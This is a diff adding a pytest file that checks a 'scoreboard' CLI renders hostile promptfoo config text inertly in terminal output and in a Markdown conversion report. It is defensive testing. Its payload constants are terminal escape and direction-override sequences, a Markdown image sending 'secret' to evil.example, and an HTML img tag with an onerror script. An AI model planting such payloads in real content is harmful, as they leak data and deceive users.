@@ -1,0 +1,64 @@
+"""Hostile text in what the CLI prints and writes outside the reports: a promptfoo config's
+assertion type, label or description (the conversion report, printed and saved as Markdown), a
+variant name or case id in `validate` and `plan`. Each is shown as the text it is: no terminal
+escape sequence, carriage return or direction override reaches the terminal, and the Markdown
+holds no live image, link or HTML."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+MarkdownIt = pytest.importorskip("markdown_it", reason="pip install markdown-it-py (a test dependency)").MarkdownIt
+
+ROOT = Path(__file__).resolve().parents[1]
+ESC = "\x1b[2J\x1b]8;;http://evil.example/\x07LINK\x1b]8;;\x07\rOVER\u202e"
+IMAGE = "![x](http://evil.example/?q=secret)"
+HTML = '<img src="http://evil.example/p.gif" onerror="alert(1)">'
+
+
+def scoreboard(cwd: Path, *args: str) -> subprocess.CompletedProcess:
+    env = {**os.environ, "SCOREBOARD_STORE": "none", "PYTHONPATH": str(ROOT / "src")}
+    return subprocess.run([sys.executable, "-m", "scoreboard", *args], cwd=cwd, capture_output=True, text=True,
+                          timeout=120, check=False, env=env)
+
+
+def inert_terminal(text: str) -> None:
+    for bad in ("\x1b", "\x07", "\r", "\x9b", "\u202e"):
+        assert bad not in text, (bad, text)
+
+
+def inert_markdown(md: str) -> str:
+    """The HTML GitHub would make of `md` holds no image, no HTML of the text's own and no link to
+    the hostile address; returns the rendered text."""
+    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(md)
+    assert "<img" not in rendered and "onerror=\"" not in rendered, rendered
+    assert 'href="http://evil' not in rendered and 'src="http://evil' not in rendered, rendered
+    return rendered
+
+
+def test_the_conversion_report_shows_a_hostile_config_as_text(tmp_path):
+    hostile_type = f"weird{IMAGE}{HTML}{ESC}"
+    config = {
+        "prompts": ["Say {{x}}"],
+        "providers": ["echo"],
+        "tests": [{"description": "d", "vars": {"x": "hi"},
+                   "assert": [{"type": hostile_type, "value": 1},
+                              {"type": "contains", "value": "hi"}]}],
+    }
+    (tmp_path / "promptfooconfig.json").write_text(json.dumps(config), encoding="utf-8")
+    done = scoreboard(tmp_path, "import", "promptfoo", "promptfooconfig.json", "--output", "out")
+    assert done.returncode == 3, done.stdout + done.stderr
+    inert_terminal(done.stdout + done.stderr)
+    assert "has no scoreboard equivalent" in done.stdout
+    md = (tmp_path / "out" / "conversion-report.md").read_text(encoding="utf-8")
+    inert_terminal(md)
+    rendered = inert_markdown(md)
+    # still shown, as text: the user sees what the config said
+    assert "weird![x](http://evil.example/?q=secret)&lt;img src=" in rendered
+    assert "\\x1b[2J" in md and "\\u202e" in md
